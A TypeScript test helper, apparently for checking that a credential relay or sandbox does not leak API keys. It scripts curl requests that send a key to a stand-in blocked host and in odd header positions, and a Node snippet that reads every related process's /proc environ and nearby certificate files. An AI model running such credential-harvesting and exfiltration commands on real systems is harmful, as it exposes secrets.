/**
 * The workload of the canary's run: it looks wherever it may, and asks for everything in the right way and in odd ones.
 * What it prints is searched.
 */
import { type AddressInfo, connect, createServer } from 'node:net';

/** A shell script: looks around with `LOOK`, and uses both sides of the relay rightly and wrongly. */
export function workload(boundUrl: string, badUrls: readonly string[], body: string): string {
  const curl = (words: string): string => `curl -sS -v ${words} 2>&1`;
  const key = '$OPENAI_API_KEY';
  const json = `-H 'content-type: application/json' -d '${body}'`;
  const base = '$OPENAI_BASE_URL/chat/completions';
  return [
    'env',
    `"${process.execPath}" --input-type=module -e "$LOOK"`,
    curl(`${boundUrl}/x -H "Authorization: Bearer $TOKEN"`),
    ...[`Authorization: Bearer ${key}`, `X-Api-Key: ${key}`].map((header) =>
      curl(`"${boundUrl}/x?k=${key}" -H "${header}"`),
    ),
    curl(`${boundUrl}/x -H "Host: ${key}"`),
    curl(`${boundUrl}/x -X TRACE`),
    curl(`${boundUrl}/x --request-target "u:${key}@x"`),
    ...badUrls.map(curl),
    curl('https://denied.test/'),
    curl(`"http://denied.test/?k=${key}" -H "X-Api-Key: ${key}"`),
    curl(`-x "$(echo $HTTPS_PROXY | sed 's/@/x@/')" ${boundUrl}/x`),
    ...['Authorization: Bearer ', 'Authorization: Basic ', 'X-Api-Key: ', 'Cookie: '].map((header) =>
      curl(`"${base}?k=${key}" ${json} -H "${header}${key}"`),
    ),
    curl(`"$OPENAI_BASE_URL/${key}" -H "Authorization: Bearer ${key}"`),
    curl(`"${base}" ${json} -H "Authorization: Bearer ${key}" -H "Sec-Fetch-Site: none"`),
    curl(`"${base}" ${json} -H "Authorization: Bearer ${key}" -H "Host: x.test"`),
  ].join('; ');
}

/** Shows the environment and command line of every process of the run, and every file of its folder. */
export const LOOK = `
  import { readdirSync, readFileSync } from 'node:fs';
  import { dirname } from 'node:path';
  const read = (file) => { try { return readFileSync(file, 'latin1'); } catch { return ''; } };
  const parentOf = (pid) => / (\\d+) /.exec(read('/proc/' + pid + '/stat').replace(/.*\\) ./s, ''))?.[1];
  const isOurs = (pid) => pid === top || (pid > 1 && isOurs(parentOf(pid)));
  const top = parentOf(process.ppid);
  const pids = readdirSync('/proc').filter((name) => /^\\d+$/.test(name) && isOurs(name));
  for (const pid of ['self', ...pids]) for (const what of ['environ', 'cmdline'])
    console.log('/proc/' + pid + '/' + what + '\\n' + read('/proc/' + pid + '/' + what).replaceAll('\\0', '\\n'));
  const folder = dirname(process.env.SSL_CERT_FILE);
  for (const entry of readdirSync(folder, { recursive: true, withFileTypes: true }))
    if (entry.isFile()) console.log(entry.parentPath + '/' + entry.name + '\\n' + read(entry.parentPath + '/' + entry.name));`;

/** Says what core answered to the run: the tokens are nowhere else outside its memory. */
export async function startTap(port: number) {
  const chunks: Buffer[] = [];
  const server = createServer((client) => {
    const core = connect(port, '127.0.0.1');
    core.on('data', (chunk: Buffer) => chunks.push(chunk));
    for (const socket of [client, core]) socket.on('error', () => {});
    client.pipe(core).pipe(client);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    heard: () => Buffer.concat(chunks).toString('latin1'),
    close: () => new Promise((resolve) => server.close(resolve)),
  };
}
